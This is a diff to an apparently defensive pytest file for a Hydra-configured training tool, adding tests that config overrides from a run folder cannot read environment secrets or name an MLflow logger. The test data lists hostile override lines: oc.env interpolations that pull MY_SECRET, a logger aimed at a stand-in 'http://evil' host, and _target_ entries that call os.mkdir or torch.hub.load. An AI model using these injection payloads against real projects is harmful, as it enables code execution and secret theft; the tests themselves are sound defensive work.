@@ -124,7 +124,6 @@ CONFIGS = [
     f"+callbacks.x={CALL}",
     "+callbacks.x._target_=os.mkdir\n+callbacks.x.path=marker",
     "+vars.x=os.mkdir\n+callbacks.x={_target_:'${vars.x}',path:marker}",
-    "+logger.x={_target_:torch.hub.load,repo_or_dir:marker,model:x}",
     "+callbacks.x={_target_:stylegan_lab.train,_args_:['trust=[os]','dry_run=true']}",
     "+callbacks.x={_target_:stylegan_lab.models.base.BaseModel.load_from_checkpoint,checkpoint_path:x,trust:[os]}",
 ]
@@ -182,6 +181,37 @@ def test_trust_comes_only_from_the_command_line(trust: str, attacked: Path) -> N
     with (attacked / "overrides.txt").open("a") as overrides:
         overrides.write(f"{trust}\n")
     assert [each.key_or_group for each in overrides_of_run(Run(attacked)) if "trust" in str(each.input_line)] == []
+
+
+ONLY_ON_THE_COMMAND_LINE = [
+    "+vars.x=${oc.env:MY_SECRET}",
+    "+vars.x='${oc.env:MY_SECRET}'",
+    "name=a-${oc.env:MY_SECRET}-b",
+    "+vars.y=env\n+vars.x=${oc.${vars.y}:MY_SECRET}",
+    "+vars.x={y:[${oc.env:MY_SECRET}]}",
+    "+vars.x=${oc.decode:'$\\{oc.env:MY_SECRET\\}'}",
+    "+vars.x=\\${oc.env:MY_SECRET}",
+    "+logger.x={_target_:lightning.pytorch.loggers.MLFlowLogger,tracking_uri:'http://evil'}",
+    "+logger.x._target_=lightning.pytorch.loggers.MLFlowLogger",
+    "+vars.x={_target_:lightning.pytorch.loggers.MLFlowLogger}\n+logger.x=${vars.x}",
+    "+vars.x=lightning.pytorch.loggers.MLFlowLogger\n+logger={x:{_target_:${vars.x}}}",
+]
+
+
+@pytest.mark.parametrize("lines", ONLY_ON_THE_COMMAND_LINE)
+def test_a_run_folder_reads_no_environment_and_names_no_logger(
+    lines: str, attacked: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("MY_SECRET", "s3cret")
+    assert resume_with(attacked, lines) == 2
+    error = capsys.readouterr().err
+    assert "overrides.txt: " in error and "give the setting on the command line again" in error and "s3cret" not in error
+
+
+def test_a_setting_that_reads_the_environment_is_given_again(attacked: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MY_NAME", "ann")
+    own = "+vars.x=${oc.env:MY_NAME}"
+    assert resume_with(attacked, f"{own}\n+vars.node=${{seed}}", own) == 0
 
 
 def test_callbacks_of_hydra_on_the_command_line_need_trust(capsys: pytest.CaptureFixture[str]) -> None:
